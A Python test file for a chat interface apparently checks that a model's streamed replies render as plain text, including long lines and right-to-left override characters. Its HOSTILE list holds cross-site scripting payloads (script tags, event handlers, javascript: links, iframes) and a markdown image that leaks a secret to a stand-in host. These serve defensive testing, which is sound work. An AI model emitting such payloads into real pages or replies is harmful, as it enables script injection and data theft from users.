"""A model that writes markup, lines without end and words that run backwards."""

from __future__ import annotations

from tests.server.scripted import script as script
from tests.server.talking import MARKS, Talk
from tests.server.talking import base as base
from tests.server.talking import talk as talk
from tests.server.talking import window as window

pytestmark = MARKS


HOSTILE = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "</p></article></main><h1 id=fake>zoo</h1>",
    "<svg onload='window.hacked = 1'></svg>",
    "[click](javascript:window.hacked=1) <a href='javascript:window.hacked=1'>x</a>",
    "![](https://example.invalid/leak?secret)",
    "```html\n<script>window.hacked = 1</script>\n```",
    "**<b onclick=window.hacked=1>bold</b>** `<i>code</i>`",
    "- <iframe src=javascript:window.hacked=1></iframe>\n- item",
    "# <style>body { display: none }</style>",
    "> <form action=/v1/models><input name=key></form>",
    "&lt;script&gt; &amp; \x00\x07\x1b[31m",
]


def test_a_model_s_words_are_never_markup(talk: Talk) -> None:
    window = talk.window
    whole = "\n\n".join(HOSTILE)
    talk.script.say(*(whole[at : at + 7] for at in range(0, len(whole), 7)))
    talk.ask("<b>Attack</b> <script>window.hacked = 1</script>")
    answer = talk.answered()
    for words in ("<script>window.hacked = 1</script>", "onerror=", "javascript:window.hacked=1", "<style>body"):
        assert words in answer
    assert window.run("return window.hacked") is None
    inside = "return [...new Set([...document.querySelectorAll('article *')].map(one => one.localName))].sort()"
    assert set(window.run(inside)) <= {
        "p", "div", "h3", "span", "button", "pre", "code", "strong", "em", "ul", "ol", "li", "blockquote", "details",
        "summary", "a",
    }  # fmt: skip
    attributes = "return [...document.querySelectorAll('.words *')].flatMap(one => one.getAttributeNames())"
    # What classes and data there are, the page's own files name.
    assert set(window.run(attributes)) <= {
        "dir", "tabindex", "start", "class", "data-language", "data-said", "type", "aria-label", "href", "target",
        "rel",
    }  # fmt: skip
    # An address is a link that a click alone opens; of other schemes there is none, and nothing is loaded.
    links = "return [...document.querySelectorAll('.words a')].map(one => [one.href, one.rel, one.target])"
    assert window.run(links) == [["https://example.invalid/leak?secret", "noopener noreferrer nofollow", "_blank"]]
    assert window.run("return document.querySelectorAll('.words :is(img, iframe, [style], [src])').length") == 0
    assert window.text("h1") == "zoo"
    assert window.text(".you .words") == "<b>Attack</b> <script>window.hacked = 1</script>"
    assert window.run("return performance.getEntriesByType('resource').every(one => one.name.startsWith(origin))")
    assert window.logged() == []
    # Even a mistake in the page could not make markup of it.
    refused = "try { document.querySelector('.words').innerHTML = '<b>x</b>' } catch (error) { return error.name }"
    assert window.run(refused) == "TypeError"


def test_lines_without_end_and_words_from_right_to_left(talk: Talk) -> None:
    window = talk.window
    talk.script.say(
        "x" * 5000, "y" * 200_000, "\n\n", "\u202e\u202egnirts desrever ", "שלום עולם", "\n\n| " + "-" * 3000
    )
    talk.ask("a" * 200 + "\u202e")
    answer = talk.answered()
    assert len(answer) > 208_000
    wide = """const talk = document.getElementById('talk');
        return [document.documentElement.scrollWidth - innerWidth, talk.scrollWidth - talk.clientWidth]"""
    assert window.run(wide) == [0, 0]
    # What turns the direction round ends with the words: the line beneath reads as always.
    assert window.run("return getComputedStyle(document.querySelector('.reply .words')).unicodeBidi") == "isolate"
    assert window.run("return getComputedStyle(document.querySelector('.reply .under')).direction") == "ltr"
    assert window.text(".reply .under").startswith("6 tokens, ")
    window.size(390, 844, phone=True)
    assert window.run(wide) == [0, 0]
    # Ten thousand signs that open and never close take no time to speak of.
    window.click("#fresh")
    talk.script.say(*["**a *b `c _d " * 50] * 40)
    talk.ask("Marks")
    assert talk.answered() == "".join(talk.script.lines)
